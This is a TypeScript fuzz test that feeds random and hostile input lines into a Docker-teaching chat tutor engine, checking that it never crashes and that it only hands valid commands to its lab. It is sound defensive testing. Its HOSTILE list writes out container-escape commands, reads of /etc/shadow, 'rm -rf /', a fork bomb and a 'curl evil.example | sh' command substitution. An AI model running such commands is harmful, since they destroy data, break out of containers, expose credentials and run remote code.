// 10,000 random and hostile lines into the chat engine, with learner state in memory and the runs answered at
// once (what is fuzzed is the engine's reading and wording, not the sandbox): not one may crash it.
import { LESSONS_DIR } from '../../src/app.js';
import { labCommandSchema } from '../../src/lab/command.js';
import { loadCurriculum } from '../../src/lessons/index.js';
import { MemoryLearnerStore } from '../../src/store/memory-learner-store.js';
import type { RunResult } from '../../src/sandbox/types.js';
import { Tutor } from '../../src/tutor/engine.js';
import { newTally, type Tally } from './tally.js';

/** A small seeded generator, so a failing line can be found again. */
function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTILE = [
  'docker run --privileged -v /:/host alpine chroot /host',
  'docker run -d --pid=host --net=host --cap-add=ALL alpine sh',
  "docker inspect -f '{{json .}}{{json .}}{{json .}}{{json .}}' a b c d e f g h i j k l",
  "docker inspect -f '{{.constructor}}{{.__proto__}}{{js .}}{{printf \"%s\" .}}' x",
  'docker exec -u root x sh -c "cat /etc/shadow"',
  'docker run -e PATH=/tmp:/bin -d alpine kill -9 -1',
  'ps aux | grep sleep; rm -rf / --no-preserve-root',
  '$(curl evil.example | sh)',
  '`reboot`',
  'cat /proc/1/ns/../../../etc/passwd',
  'readlink /proc/1/ns/pid',
  'sudo cat /sys/fs/cgroup/memory/docker/../../../etc/shadow',
  ':(){ :|:& };:',
  'docker stats ' + Array.from({ length: 60 }, (_, i) => `c${i}`).join(' '),
  '/start ../../etc/passwd',
  '/lang klingon',
  '/start 99999999999999999999',
  '<@everyone> @here ```` \u202e\u200b',
  '\u0000\u0001\u0007\u001b[31mred\u001b[0m',
  'docker run --rm alpine sh -c "yes | head -c 100000000"',
  '1',
  '99',
  'docker',
  'docker run',
  "docker run --memory=-1 --cpus=1e308 --pids-limit=-9 alpine",
  'exit',
  'docker exec -it my-alpine sh',
  '  \t  ',
];

function randomLine(next: () => number): string {
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(next() * xs.length)] as T;
  switch (Math.floor(next() * 6)) {
    case 0:
      return pick(HOSTILE);
    case 1: {
      const length = Math.floor(next() * 3000);
      return Array.from({ length }, () => String.fromCodePoint(Math.floor(next() * 0x2fff))).join('');
    }
    case 2:
      return `${pick(['docker ', 'sudo ', '$ ', '/', ''])}${Array.from({ length: 1 + Math.floor(next() * 12) }, () => pick(['run', 'exec', '-d', '--rm', '-it', 'alpine', 'ps', 'aux', '|', '&&', ';', "'", '"', '{{', '}}', '$(', ')', '>', '--name', 'x', '-e', 'A=B', '--user', '0'])).join(' ')}`;
    case 3:
      return pick(HOSTILE).split('').map((c) => (next() < 0.1 ? String.fromCharCode(Math.floor(next() * 128)) : c)).join('');
    case 4:
      return 'x'.repeat(Math.floor(next() * 5000));
    default:
      return pick(['hello', 'what is a namespace?', 'help', 'next', '次へ', 'ヒント', 'わからない', 'I am on a Mac', 'yes', 'no', 'docker ps', 'ps aux', 'ls -l /proc/self/ns']);
  }
}

export async function fuzzChat(smoke: boolean): Promise<Tally> {
  const lines = smoke ? 1_000 : 10_000;
  const tally = newTally(`${lines} random and hostile lines into the chat engine`);
  const result: RunResult = { stdout: 'ok\n', stderr: '', exitCode: 0, timedOut: false, oomKilled: false, truncated: false, durationMs: 1 };
  let badLab = 0;
  const tutor = new Tutor({
    curriculum: await loadCurriculum(LESSONS_DIR),
    store: new MemoryLearnerStore(),
    run: async () => ({ result }),
    runLab: async (_learner, command) => {
      // What the engine hands the lab must still be a valid lab command, whatever was typed.
      if (!labCommandSchema.safeParse(command).success) badLab += 1;
      return { result, notes: [] };
    },
    clearLab: async () => ({ removed: 0 }),
    defaultLang: 'ja',
  });
  const next = rng(12);
  let crashes = 0;
  const started = Date.now();
  for (let i = 0; i < lines; i++) {
    const line = randomLine(next);
    const learner = `fuzz-${i % 20}`;
    tally.accepted += 1;
    try {
      let replies = 0;
      await tutor.typed(learner, line, { onReply: () => void (replies += 1), patient: false });
      if (replies > 0) tally.answeredOnce += 1;
      else tally.lost += 1;
    } catch (err) {
      crashes += 1;
      tally.wrongAnswer += 1;
      if (crashes <= 3) tally.notes.push(`crash on line ${i} (${JSON.stringify(line.slice(0, 80))}): ${(err as Error).message}`);
    }
  }
  tally.notes.push(`${crashes} crashes, ${badLab} invalid lab commands handed on, ${lines} lines in ${((Date.now() - started) / 1000).toFixed(1)} s`);
  return tally;
}
